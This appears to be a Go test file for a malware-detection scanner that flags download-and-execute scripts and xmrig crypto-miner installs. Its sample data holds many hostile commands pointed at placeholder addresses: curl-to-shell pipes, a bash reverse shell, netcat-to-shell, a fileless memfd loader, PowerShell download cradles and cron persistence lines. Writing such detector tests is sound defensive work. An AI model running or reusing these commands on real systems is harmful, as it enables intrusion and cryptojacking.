package download

import (
	"strings"
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func rules(t testing.TB) Rules {
	t.Helper()
	var r Rules
	indicatortest.Decode(t, name, &r)
	return r
}

const release = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"

func samples() []indicatortest.Sample {
	script, text, config := trust.KindScript, trust.KindText, trust.KindConfig
	return []indicatortest.Sample{
		{Name: "wget-only", Path: "a.sh", Kind: script, Content: "wget -q " + release + "\n", Want: trust.Strong},
		{Name: "curl-tar", Path: "a.sh", Kind: script, Content: "curl -L " + release + " | tar xz\nchmod +x x\n", Want: trust.Strong},
		{Name: "curl-run", Path: "a.sh", Kind: script, Content: "curl -L " + release + " | tar xz\n./xmrig-6.21.0/xmrig -c /x\n", Want: trust.Proof},
		{Name: "python-urllib", Path: "dao.py", Kind: script, Content: "URL = '" + release + "'\ndef main():\n    urllib.request.urlretrieve(URL, '/tmp/a.tgz')\n    tarfile.open('/tmp/a.tgz').extractall('/tmp')\n    subprocess.Popen(['/tmp/a'])\n", Want: trust.Proof},
		{Name: "python-requests", Path: "dao.py", Kind: script, Content: "r = requests.get(\"" + release + "\")\nopen('x','wb').write(r.content)\n", Want: trust.Strong},
		{Name: "python-list", Path: "dao.py", Kind: script, Content: "subprocess.run(['wget', '" + release + "'])\n", Want: trust.Proof},
		{Name: "javascript", Path: "a.js", Kind: script, Content: "https.get('" + release + "', f); spawn('./a')", Want: trust.Proof},
		{Name: "perl", Path: "a.pl", Kind: script, Content: "getstore('" + release + "', 'x'); chmod 0755, 'x';", Want: trust.Strong},
		{Name: "git-clone", Path: "a.sh", Kind: script, Content: "git clone --depth 1 https://github.com/MoneroOcean/xmrig.git && cmake .", Want: trust.Strong},
		{Name: "setup-on-bare-address", Path: "a.sh", Kind: script, Content: "curl -s -L http://203.0.113.7/xmrig_setup/raw/master/setup_c3pool_miner.sh | LC_ALL=en_US.UTF-8 bash -s W", Want: trust.Proof},
		{Name: "asset-elsewhere", Path: "a.sh", Kind: script, Content: "wget http://203.0.113.7/.x/xmrig-6.20.0-linux-x64.tar.gz", Want: trust.Strong},
		{Name: "asset-with-variable", Path: "a.sh", Kind: script, Content: "V=6.21.0; wget http://203.0.113.7/xmrig-${V}-linux-static-x64.tar.gz", Want: trust.Strong},
		{Name: "history", Path: "config:history", Kind: config, Content: "/bin/sh -c wget " + release + " && tar xf x && ./xmrig --version", Want: trust.Strong},
		{Name: "history-add", Path: "config:history", Kind: config, Content: "ADD " + release + " /opt/ # buildkit", Want: trust.Strong},
		{Name: "entrypoint", Path: "config:entrypoint", Kind: config, Content: `["/bin/sh","-c","curl -sL ` + release + ` | tar xz && exec ./xmrig"]`, Want: trust.Proof},
		{Name: "apt", Path: "config:history", Kind: config, Content: "/bin/sh -c apt-get update && apt-get install -y --no-install-recommends tor xmrig", Want: trust.Strong},
		{Name: "apk", Path: "a.sh", Kind: script, Content: "apk add --no-cache \\\n  curl \\\n  xmrig\n", Want: trust.Strong},
		{Name: "cron", Path: "etc/cron.d/x", Kind: text, Content: "* * * * * root wget -qO- http://203.0.113.7/setup_c3pool_miner.sh | sh", Want: trust.Proof},
		{Name: "chain-address", Path: "a.sh", Kind: script, Content: "cd /tmp\nwget http://203.0.113.7/a/sysd -O .sysd\nchmod 777 .sysd\n./.sysd -c /tmp/.c.json &\n", Want: trust.Strong},
		{Name: "chain-address-openly", Path: "a.sh", Kind: script, Content: "wget http://203.0.113.7/a/sysd -O /opt/sysd && chmod +x /opt/sysd && /opt/sysd\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "chain-paste", Path: "a.py", Kind: script, Content: "r = requests.get(\"https://pastebin.com/raw/abcdEFGH\")\nopen(\"/tmp/.d\", \"wb\").write(r.content)\nos.chmod(\"/tmp/.d\", 0o755)\nos.system(\"/tmp/.d &\")\n", Want: trust.Strong},
		{Name: "chain-onion", Path: "a.sh", Kind: script, Content: "curl -x socks5h://localhost:9050 -fsSL http://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion/i.sh -o /root/i.sh\nchmod +x /root/i.sh && /root/i.sh\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "chain-plain-temporary", Path: "a.sh", Kind: script, Content: "wget http://dl.example.org/agent -O /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent\n", Want: trust.Weak},
		{Name: "pipe-address", Path: "a.sh", Kind: script, Content: "curl -fsSL http://203.0.113.7/x | bash\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "pipe-interpreter", Path: "a.sh", Kind: script, Content: "wget -qO- http://203.0.113.7/x.py | python3 -\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "pipe-decoded", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/x | base64 -d | sh\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "substitution", Path: "a.sh", Kind: script, Content: "bash <(curl -s https://transfer.sh/abc/x.sh)\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "command-string", Path: "a.sh", Kind: script, Content: "sh -c \"$(curl -fsSL http://203.0.113.7/x)\"\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "python-exec", Path: "a.py", Kind: script, Content: "exec(urllib.request.urlopen(\"http://203.0.113.7:8000/p.py\").read())\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "variable", Path: "a.sh", Kind: script, Content: "U=http://203.0.113.7/x\ncurl -sL \"$U\" -o /var/tmp/.k; chmod +x /var/tmp/.k; nohup /var/tmp/.k &\n", Want: trust.Strong},
		{Name: "cron-address", Path: "etc/cron.d/x", Kind: script, Content: "* * * * * root curl -s http://203.0.113.7/x | sh\n", Want: trust.Strong},
		{Name: "at-start", Path: "config:command", Kind: config, Content: "/bin/sh -c \"curl -sL http://203.0.113.4/x.sh | sh && sleep infinity\"", Want: trust.Strong},
		{Name: "at-start-named", Path: "config:command", Kind: config, Content: "/bin/sh -c \"curl -sL https://get.example.org/x.sh | sh\"", Want: trust.Weak},
		{Name: "at-start-package", Path: "config:command", Kind: config, Content: "/bin/sh -c \"pip install colourama && python app.py\"", Want: trust.Weak},
		{Name: "powershell", Path: "a.ps1", Kind: script, Content: "IEX (New-Object Net.WebClient).DownloadString(\"http://203.0.113.7/x.ps1\")\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "unpacked", Path: "a.sh", Kind: script, Content: "cd /dev/shm || exit\nwget -q http://203.0.113.9/k.tar.gz && tar xzf k.tar.gz && cd k && ./run\n", Want: trust.Strong},
		{Name: "busybox", Path: "a.sh", Kind: script, Content: "busybox wget http://203.0.113.7/bins.sh; sh bins.sh\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "device", Path: "a.sh", Kind: script, Content: "exec 3<>/dev/tcp/203.0.113.7/80; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x\n", Want: trust.Strong},
		{Name: "remote-shell", Path: "a.sh", Kind: script, Content: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "written-by-variable", Path: "a.py", Kind: script, Content: "data = urlopen(\"http://203.0.113.7/k\").read()\np = \"/var/tmp/.k\"\nwith open(p, \"wb\") as f:\n    f.write(data)\nos.chmod(p, 0o777)\nos.system(p + \" &\")\n", Want: trust.Strong},
		{Name: "ruby", Path: "a.rb", Kind: script, Content: "File.binwrite('/tmp/r', URI.open('https://transfer.sh/get/abc/r').read)\nFile.chmod(0755, '/tmp/r')\nsystem('/tmp/r &')\n", Want: trust.Strong},
		{Name: "list", Path: "a.py", Kind: script, Content: "L = ['github.com/xmrig/xmrig', 'github.com/pooler/cpuminer', 'github.com/tpruvot/ccminer', 'github.com/trexminer/T-Rex',\n 'github.com/NebuTech/NBMiner', 'github.com/bzminer/bzminer']\nfor u in L: requests.get(u)\n", Want: trust.Context, IfRun: trust.Strong},
		{Name: "hidden-perl", Path: "a.pl", Kind: script, Content: "use LWP::Simple; getstore(\"http://dl.example.org/x86_64\",\"/var/tmp/.dbus\"); chmod 0755,\"/var/tmp/.dbus\"; system(\"/var/tmp/.dbus &\");\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "hidden-tls", Path: "a.sh", Kind: script, Content: "curl -sL https://xbucket-77.s3.example.org/kdev -o /var/tmp/.kdev && chmod +x /var/tmp/.kdev && (/var/tmp/.kdev >/dev/null 2>&1 &)\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "hidden-folder", Path: "a.sh", Kind: script, Content: "mkdir -p /dev/shm/.x; cd /dev/shm/.x\nwget -q https://dl.example.org/k -O /dev/shm/.x/k; chmod +x /dev/shm/.x/k; /dev/shm/.x/k\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "content-address", Path: "a.sh", Kind: script, Content: "wget -q https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG -O /opt/s && chmod +x /opt/s && /opt/s\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "evaluated-in-a-callback", Path: "a.js", Kind: script, Content: "const h=require(\"http\");h.get(\"http://203.0.113.7/a\",r=>{let b=\"\";r.on(\"data\",d=>b+=d);r.on(\"end\",()=>eval(b))})\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "evaluated-from-a-variable", Path: "a.py", Kind: script, Content: "import urllib.request\ncode = urllib.request.urlopen(\"http://203.0.113.7/p\").read()\nexec(code)\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "from-memory", Path: "a.py", Kind: script, Content: "import ctypes,urllib.request,os\nl=ctypes.CDLL(None)\nfd=l.syscall(319,b\"\",1)\nos.write(fd,urllib.request.urlopen(\"https://transfer.sh/abc/x\").read())\nos.execve(\"/proc/self/fd/%d\"%fd,[\"[kworker/0:0]\"],{})\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "record", Path: "a.sh", Kind: script, Content: "dig +short txt c.example.net | tr -d \\\" | base64 -d | sh\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "channel", Path: "a.sh", Kind: script, Content: "nc 203.0.113.9 4444 | sh\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "channel-named", Path: "a.sh", Kind: script, Content: "socat - OPENSSL:c2.example.net:443,verify=0 | bash -s\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "any-tool", Path: "a.sh", Kind: script, Content: "cd1 -s http://203.0.113.9/k | sh -\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "aria2", Path: "a.sh", Kind: script, Content: "aria2c -q -d /tmp -o k http://203.0.113.9/k && chmod 777 /tmp/k && /tmp/k\n", Want: trust.Strong},
		{Name: "rsync", Path: "a.sh", Kind: script, Content: "rsync -a rsync://203.0.113.9/pub/k /tmp/k && chmod +x /tmp/k && /tmp/k\n", Want: trust.Strong},
		{Name: "scp", Path: "a.sh", Kind: script, Content: "scp -q root@203.0.113.9:/srv/k /opt/k && /opt/k\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "go", Path: "main.go", Kind: text, Content: "package main\nfunc main() {\n\tr, _ := http.Get(\"http://203.0.113.9/k\")\n\tf, _ := os.Create(\"/tmp/k\")\n\tio.Copy(f, r.Body)\n\tos.Chmod(\"/tmp/k\", 0o755)\n\texec.Command(\"/tmp/k\").Run()\n}\n", Want: trust.Context, IfRun: trust.Strong},
		{Name: "java", Path: "A.java", Kind: text, Content: "InputStream in = new URL(\"http://203.0.113.9/k\").openStream();\nFiles.copy(in, Paths.get(\"/tmp/k\"));\nnew File(\"/tmp/k\").setExecutable(true);\nRuntime.getRuntime().exec(\"/tmp/k\");\n", Want: trust.Context, IfRun: trust.Strong},
		{Name: "lua", Path: "a.lua", Kind: script, Content: "local b = http.request(\"http://203.0.113.9/k\")\nlocal f = io.open(\"/tmp/k\", \"wb\")\nf:write(b)\nos.execute(\"chmod +x /tmp/k\")\nos.execute(\"/tmp/k &\")\n", Want: trust.Strong},
		{Name: "r", Path: "a.r", Kind: script, Content: "download.file(\"http://203.0.113.9/k\", \"/tmp/k\")\nSys.chmod(\"/tmp/k\")\nsystem(\"/tmp/k\")\n", Want: trust.Strong},
		{Name: "deno", Path: "a.ts", Kind: text, Content: "const r = await fetch(\"http://203.0.113.9/k\");\nawait Deno.writeFile(\"/tmp/k\", new Uint8Array(await r.arrayBuffer()), {mode: 0o755});\nnew Deno.Command(\"/tmp/k\").spawn();\n", Want: trust.Context, IfRun: trust.Strong},
		{Name: "pipe-into-words-that-run", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/x | sh -c \"$(cat)\"\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "pipe-into-code-that-runs", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/x | python3 -c 'import sys; exec(sys.stdin.read())'\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "pipe-exits-early", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/x | bash -ex\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "library-of-python", Path: "a.py", Kind: script, Content: "r=urllib3.PoolManager().request(\"GET\",\"http://203.0.113.9/k\")\nwith open(\"/tmp/.k\",\"wb\") as f: f.write(r.data)\nos.chmod(\"/tmp/.k\",0o755)\nos.spawnl(os.P_NOWAIT,\"/tmp/.k\",\"k\")\n", Want: trust.Strong},
		{Name: "php-in-one-line", Path: "a.php", Kind: script, Content: "<?php if(!file_exists(\"/tmp/.k\")){file_put_contents(\"/tmp/.k\",file_get_contents(\"http://203.0.113.9/k\"));chmod(\"/tmp/.k\",0755);exec(\"/tmp/.k > /dev/null &\");}\n", Want: trust.Strong},
		{Name: "sources-from-an-address", Path: "a.sh", Kind: script, Content: "git clone -q http://203.0.113.9/r.git /tmp/.r && cd /tmp/.r && sh run.sh\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "tcl", Path: "a.tcl", Kind: script, Content: "package require http\nset t [http::geturl http://203.0.113.9/k -channel [open /tmp/k w]]\nfile attributes /tmp/k -permissions 0755\nexec /tmp/k &\n", Want: trust.Strong},
		{Name: "bun", Path: "a.ts", Kind: text, Content: "await Bun.write(\"/tmp/k\", await fetch(\"http://203.0.113.9/k\"));\nawait $`chmod +x /tmp/k`; await $`/tmp/k`;\n", Want: trust.Context, IfRun: trust.Strong},
		{Name: "device-read-later", Path: "a.sh", Kind: script, Content: "exec 5<>/dev/tcp/203.0.113.9/8080\nprintf 'GET /k' >&5\nsed 1,/^.$/d <&5 > /tmp/.k\nchmod +x /tmp/.k\n/tmp/.k &\n", Want: trust.Strong},
		{Name: "one-line", Path: "main.go", Kind: text, Content: "func main(){ r,_:=http.Get(\"http://203.0.113.9/k\"); f,_:=os.OpenFile(\"/dev/shm/k\",os.O_CREATE,0755); io.Copy(f,r.Body); exec.Command(\"/dev/shm/k\",\"-o\",\"x.example:443\").Run() }\n", Want: trust.Context, IfRun: trust.Strong},
		{Name: "text", Path: "opt/todo", Kind: text, Content: "wget " + release + " && ./xmrig", Want: trust.Weak, IfRun: trust.Proof},
	}
}

func TestIndicator(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	script, text, config := trust.KindScript, trust.KindText, trust.KindConfig
	indicatortest.Run(t, ind, samples(), []indicatortest.Twin{
		{Name: "article", Path: "srv/article.html", Kind: text, Content: "Attackers ran <code>curl -L " + release + " | tar xz; ./xmrig</code>."},
		{Name: "package-list", Path: "var/lib/apt/lists/x_Packages", Kind: text, Content: "Package: xmrig\nHomepage: https://github.com/xmrig/xmrig\nFilename: pool/x/xmrig_6.20.0.deb\n"},
		{Name: "dependabot", Path: "x/.github/dependabot.yml", Kind: text, Content: "ignore:\n - dependency-name: github.com/ethereum-mining/ethminer\n"},
		{Name: "link-in-script", Path: "a.py", Kind: script, Content: "# see https://github.com/xmrig/xmrig for what attackers use\nSIGNATURES = ['xmrig', 'minerd']\n"},
		{Name: "other-repository", Path: "a.sh", Kind: script, Content: "git clone https://github.com/xmrig/xmrig-docs-theme; curl https://github.com/pooler/cpuminer-web/x"},
		{Name: "other-asset", Path: "a.sh", Kind: script, Content: "wget http://x.invalid/notxmrig-6.1.tar.gz http://x/xmrig-dashboard.css"},
		{Name: "homebrew-formula", Path: "Formula/xmrig.rb", Kind: script, Content: "class Xmrig < Formula\n  url \"https://github.com/xmrig/xmrig/archive/v6.tar.gz\"\n  def install\n    system \"cmake\"\n"},
		{Name: "kill-script", Path: "clean.sh", Kind: script, Content: "pkill xmrig; apt-get remove xmrig cpuminer; killall minerd\n"},
		{Name: "install-other", Path: "config:history", Kind: config, Content: "apt-get install -y curl tor proxychains4 python3; echo xmrig"},
		{Name: "named-alike", Path: "a.sh", Kind: script, Content: "pip install xmrig-exporter; apt-get install libcpuminer-dev\n"},
		{Name: "installer", Path: "a.sh", Kind: script, Content: "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n"},
		{Name: "installer-at-build", Path: "config:history[3]", Kind: config, Content: "RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_18.x | bash - && apt-get install -y nodejs # buildkit"},
		{Name: "address-at-build", Path: "config:history[3]", Kind: config, Content: "RUN /bin/sh -c wget -O /tmp/x http://203.0.113.5/x && chmod +x /tmp/x && /tmp/x # buildkit"},
		{Name: "release", Path: "a.sh", Kind: script, Content: "wget -O /usr/local/bin/gosu \"https://github.com/tianon/gosu/releases/download/1.17/gosu-amd64\"\nchmod +x /usr/local/bin/gosu\ngosu --version\n"},
		{Name: "inside", Path: "a.sh", Kind: script, Content: "curl -sO http://10.1.2.3:8080/jnlpJars/agent.jar\njava -jar agent.jar\nwget -q -O /tmp/x http://build.internal/x && chmod +x /tmp/x && /tmp/x\n"},
		{Name: "health", Path: "a.sh", Kind: script, Content: "curl -f http://localhost:8080/health || exit 1\nwget -qO- http://127.0.0.1/status | sh -c \"grep ok\"\n"},
		{Name: "metadata", Path: "a.sh", Kind: script, Content: "curl -s http://169.254.169.254/latest/user-data | bash\n"},
		{Name: "data", Path: "a.py", Kind: script, Content: "r = requests.get(\"http://203.0.113.7/data.csv\")\nopen(\"/tmp/data.csv\", \"wb\").write(r.content)\nsubprocess.run([\"gzip\", \"-9\", \"/var/log/x\"])\n"},
		{Name: "data-shell", Path: "a.sh", Kind: script, Content: "wget http://203.0.113.7/geo.mmdb -O /var/lib/geo.mmdb\nexec /usr/sbin/nginx\n"},
		{Name: "comment", Path: "a.sh", Kind: script, Content: "# curl http://203.0.113.7/x | bash\n"},
		{Name: "requirements", Path: "config:command", Kind: config, Content: "sh -c \"pip install -r requirements.txt && python app.py\""},
		{Name: "node-modules", Path: "config:command", Kind: config, Content: "sh -c \"npm install && npm start\""},
		{Name: "model", Path: "a.py", Kind: script, Content: "r = requests.get(\"http://203.0.113.4:9000/x.onnx\")\nopen(\"/tmp/x.onnx\", \"wb\").write(r.content)\nsubprocess.run([\"python\", \"serve.py\", \"--model\", \"/tmp/x.onnx\"])\n"},
		{Name: "wait-for-it", Path: "a.sh", Kind: script, Content: "while ! (echo > /dev/tcp/$HOST/$PORT) 2>/dev/null; do sleep 1; done\n"},
		{Name: "database-file", Path: "etc/cron.weekly/geoip", Kind: script, Content: "wget -q http://203.0.113.4/G.dat.gz -O /tmp/G.dat.gz && gunzip -f /tmp/G.dat.gz && mv /tmp/G.dat /usr/share/GeoIP/\n"},
		{Name: "installer-in-tmp", Path: "config:command", Kind: config, Content: "sh -c \"curl -fsSL https://get.example.org/install.sh -o /tmp/install.sh && sh /tmp/install.sh\"", Allowed: trust.Weak},
		{Name: "sources", Path: "a.sh", Kind: script, Content: "git clone https://github.com/contoso/playbooks /tmp/pb && cd /tmp/pb && make\ngit clone http://gitlab.internal/x.git && cd x && make\n"},
		{Name: "bundle", Path: "b.js", Kind: script, Content: "eval(\"module.exports = 1\");h.get(\"http://93.184.216.34/ping\",r=>{let b=\"\";r.on(\"end\",()=>{console.log(b)})});var f=new Function(\"return this\")()\n"},
		{Name: "told-what-to-do", Path: "a.sh", Kind: script, Content: "nslookup db | tail -n 2 | sh -c 'cat'\ncurl -s http://203.0.113.7/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'\ncurl -s http://203.0.113.7/x | perl -ne 'print if /a/'\ncurl -s http://203.0.113.7/x | python -m json.tool\n"},
		{Name: "settings-to-source", Path: "a.sh", Kind: script, Content: "curl -fsSL https://config.contoso.example/app.env -o /tmp/.env && . /tmp/.env\n"},
		{Name: "hidden-data", Path: "a.sh", Kind: script, Content: "curl -fsSL https://dl.example.org/list.json -o /tmp/.list.json && jq . /tmp/.list.json\n"},
		{Name: "records-read", Path: "a.sh", Kind: script, Content: "dig +short txt example.net | grep v=spf1\nnslookup example.org | awk '/Address/{print $2}'\n"},
		{Name: "own-channel", Path: "a.sh", Kind: script, Content: "echo stats | nc localhost 11211 | sh -c 'grep uptime'\nnc 10.0.0.3 9000 | sh\n"},
		{Name: "data-through-ssh", Path: "a.sh", Kind: script, Content: "ssh backup@203.0.113.9 'cat /srv/dump.gz' | gunzip | psql\n"},
		{Name: "exporter", Path: "a.js", Kind: script, Content: "http.get('http://203.0.113.7:9100/metrics', r => { let b=''; r.on('data', d => b += d); r.on('end', () => console.log(JSON.parse(b))) })\n"},
		{Name: "block-list", Path: "urls.txt", Kind: text, Content: strings.Repeat("http://203.0.113.7:3344/Mozi.m\nhttp://198.51.100.4/bins.sh | sh - \n", 400), Allowed: trust.Weak},
		{Name: "rsync-data", Path: "a.sh", Kind: script, Content: "rsync -a rsync://203.0.113.9/geo/x.mmdb /var/lib/x.mmdb && exec nginx\n"},
		{Name: "memory-in-tests", Path: "a.py", Kind: script, Content: "fd = os.memfd_create('buffer')\nos.write(fd, frame)\nsubprocess.run(['ffmpeg', '-i', '/proc/self/fd/%d' % fd, 'out.mp4'])\n"},
		{Name: "changelog", Path: "usr/share/doc/x/changelog", Kind: text, Content: "wget " + release},
	})
}

func TestNewRefuses(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*Rules){
		"nothing":  func(r *Rules) { *r = Rules{} },
		"short":    func(r *Rules) { r.Setups = []string{"x.sh"} },
		"pattern":  func(r *Rules) { r.Fetch = []string{"("} },
		"no-fetch": func(r *Rules) { r.Fetch = nil },
	} {
		r := rules(t)
		change(&r)
		if _, err := New(r); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func FuzzHit(f *testing.F) {
	ind, err := New(rules(f))
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range samples() {
		f.Add([]byte(s.Content))
	}
	f.Fuzz(func(_ *testing.T, in []byte) {
		indicatortest.Inspect(ind, indicator.File{Path: "x.sh", Kind: trust.KindScript}, in, indicatortest.Drive{})
	})
}

func TestUnread(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		content string
		want    bool
	}{
		"bait": {strings.Repeat("# github.com/xmrig/xmrig\n", 3000), true},
	} {
		file := indicator.File{Path: "run.sh", Kind: trust.KindScript}
		if got := indicatortest.Unread(ind, file, []byte(tc.content), indicatortest.Drive{}); (got != "") != tc.want {
			t.Errorf("%s: unread: %q", name, got)
		}
	}
}
